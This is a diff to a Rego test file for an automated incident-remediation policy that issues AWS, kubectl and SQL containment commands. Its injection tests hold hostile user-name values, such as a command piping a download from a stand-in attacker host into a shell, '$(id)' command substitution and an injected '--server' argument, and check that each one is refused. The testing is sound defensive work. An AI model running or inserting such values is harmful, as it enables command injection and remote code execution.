@@ -200,7 +200,7 @@ test_an_ecs_incident_contains_the_instance_and_stops_the_task_after_approval if 
 	i.target.id == "i-node"
 	some n in d.actions
 	n.type == "notify"
-	contains(n.params.message, "aws ecs describe-tasks --cluster prod-ecs --tasks arn:aws:ecs:eu-west-1:1:task/prod-ecs/abc --region eu-west-1")
+	contains(concat("\n", n.params.commands), "aws ecs describe-tasks --cluster prod-ecs --tasks arn:aws:ecs:eu-west-1:1:task/prod-ecs/abc --region eu-west-1")
 }
 
 eks_doc(user) := object.union(doc("EKSCluster", "prod-cluster", "incident"), {"alert": {
@@ -212,18 +212,26 @@ test_an_eks_incident_carries_the_kubectl_commands if {
 	d := remediate.decision with input as eks_doc("system:serviceaccount:default:app")
 	some n in d.actions
 	n.type == "notify"
-	contains(n.params.message, "aws eks update-kubeconfig --name prod-cluster --region eu-west-1")
-	contains(n.params.message, "kubectl -n default label pod app soar-quarantine=true")
-	contains(n.params.message, "NetworkPolicy")
-	contains(n.params.message, "kubectl auth can-i --list --as system:serviceaccount:default:app")
+	contains(concat("\n", n.params.commands), "aws eks update-kubeconfig --name prod-cluster --region eu-west-1")
+	contains(concat("\n", n.params.commands), "kubectl -n default label pod app soar-quarantine=true")
+	contains(concat("\n", n.params.commands), "NetworkPolicy")
+	contains(concat("\n", n.params.commands), "kubectl auth can-i --list --as system:serviceaccount:default:app")
 }
 
 test_a_hostile_name_is_never_pasted_into_a_command if {
-	d := remediate.decision with input as eks_doc("x; curl evil.example | sh")
+	some hostile in ["x; curl evil.example | sh", "--server=https://evil.example", "a\nb", ""]
+	d := remediate.decision with input as eks_doc(hostile)
 	some n in d.actions
 	n.type == "notify"
-	not contains(n.params.message, "curl evil")
-	contains(n.params.message, "<see the finding: unusual characters>")
+	not contains(concat("\n", n.params.commands), "evil")
+	not contains(concat("\n", n.params.commands), "a\nb")
+}
+
+test_every_hostile_name_is_refused if {
+	every hostile in ["x; curl evil.example | sh", "--server=https://evil.example", "-A", "a\nb", "$(id)", "a b"] {
+		remediate.safe(hostile) == "<see the finding: unusual characters>"
+	}
+	remediate.safe("system:serviceaccount:default:app") == "system:serviceaccount:default:app"
 }
 
 test_rds_and_malware_findings_carry_their_commands if {
@@ -232,12 +240,12 @@ test_rds_and_malware_findings_carry_their_commands if {
 	d := remediate.decision with input as rds
 	some n in d.actions
 	n.type == "notify"
-	contains(n.params.message, "--db-instance-identifier orders-db --no-publicly-accessible")
-	contains(n.params.message, `ALTER ROLE "app_user" NOLOGIN`)
+	contains(concat("\n", n.params.commands), "--db-instance-identifier orders-db --no-publicly-accessible")
+	contains(concat("\n", n.params.commands), `ALTER ROLE "app_user" NOLOGIN`)
 	object := object.union(doc("S3Object", "arn:aws:s3:::up/in/x.zip", "incident"), {"alert": {
 		"resource": {"attributes": {"bucket_name": "up", "object_key": "in/x.zip"}}}})
 	e := remediate.decision with input as object
 	some m in e.actions
 	m.type == "notify"
-	contains(m.params.message, "put-object-tagging --bucket up --key in/x.zip")
+	contains(concat("\n", m.params.commands), "put-object-tagging --bucket up --key in/x.zip")
 }
